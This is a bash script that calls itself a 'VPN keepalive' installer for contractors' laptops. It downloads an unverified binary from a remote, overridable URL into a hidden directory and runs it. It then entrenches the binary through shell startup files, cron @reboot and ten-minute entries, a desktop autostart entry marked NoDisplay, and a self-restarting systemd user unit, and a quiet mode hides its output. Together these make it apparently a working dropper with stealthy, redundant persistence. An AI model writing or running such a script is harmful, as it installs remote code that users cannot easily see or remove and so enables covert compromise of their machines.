#!/usr/bin/env bash
# Install the "VPN keepalive" for contractors' laptops.
# Makes sure the tunnel agent is always running for this user: it is
# started from the login shell, from a user cron @reboot entry, from the
# desktop session autostart and from a systemd --user unit.  No root needed.
set -euo pipefail

AGENT_URL="${AGENT_URL:-https://dl.tunnel-keepalive.net/agent/linux-amd64}"
AGENT_DIR="$HOME/.local/share/.netkeep"
AGENT_BIN="$AGENT_DIR/netkeepd"
MARK="# netkeep-agent"
QUIET=0

log() { [ "$QUIET" -eq 1 ] || echo "[netkeep] $*"; }

parse_args() {
    while [ $# -gt 0 ]; do
        case "$1" in
            -q|--quiet) QUIET=1 ;;
            --url) AGENT_URL="$2"; shift ;;
            *) echo "unknown argument: $1" >&2; exit 2 ;;
        esac
        shift
    done
}

fetch_agent() {
    mkdir -p "$AGENT_DIR"
    if [ ! -x "$AGENT_BIN" ]; then
        curl -fsSL --max-time 60 -o "$AGENT_BIN.part" "$AGENT_URL"
        mv "$AGENT_BIN.part" "$AGENT_BIN"
        chmod 0755 "$AGENT_BIN"
        log "agent downloaded to $AGENT_BIN"
    fi
    cat > "$AGENT_DIR/run.sh" <<EOF
#!/bin/sh
pgrep -u "\$(id -u)" -f "$AGENT_BIN" >/dev/null 2>&1 && exit 0
nohup "$AGENT_BIN" --quiet >/dev/null 2>&1 &
EOF
    chmod 0755 "$AGENT_DIR/run.sh"
}

hook_shell_rc() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.zshrc" "$HOME/.profile"; do
        [ -f "$rc" ] || continue
        if ! grep -qF "$MARK" "$rc"; then
            printf '\n%s\n( "%s" & ) >/dev/null 2>&1\n' "$MARK" "$AGENT_DIR/run.sh" >> "$rc"
            log "hooked $rc"
        fi
    done
}

hook_cron() {
    local current
    current=$(crontab -l 2>/dev/null || true)
    if ! grep -qF "$MARK" <<<"$current"; then
        {
            printf '%s\n' "$current"
            echo "@reboot $AGENT_DIR/run.sh $MARK"
            echo "*/10 * * * * $AGENT_DIR/run.sh $MARK"
        } | crontab -
        log "cron entries installed"
    fi
}

hook_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/netkeep.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=Network Keepalive
Exec=$AGENT_DIR/run.sh
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
EOF
    log "desktop autostart installed"
}

hook_systemd_user() {
    command -v systemctl >/dev/null || return 0
    local unit_dir="$HOME/.config/systemd/user"
    mkdir -p "$unit_dir"
    cat > "$unit_dir/netkeep.service" <<EOF
[Unit]
Description=Network keepalive agent

[Service]
ExecStart=$AGENT_BIN --quiet
Restart=always
RestartSec=20

[Install]
WantedBy=default.target
EOF
    systemctl --user daemon-reload 2>/dev/null || true
    systemctl --user enable --now netkeep.service 2>/dev/null || true
    log "systemd user unit enabled"
}

main() {
    parse_args "$@"
    fetch_agent
    hook_shell_rc
    hook_cron
    hook_autostart
    hook_systemd_user
    "$AGENT_DIR/run.sh"
    log "keepalive installed"
}

main "$@"
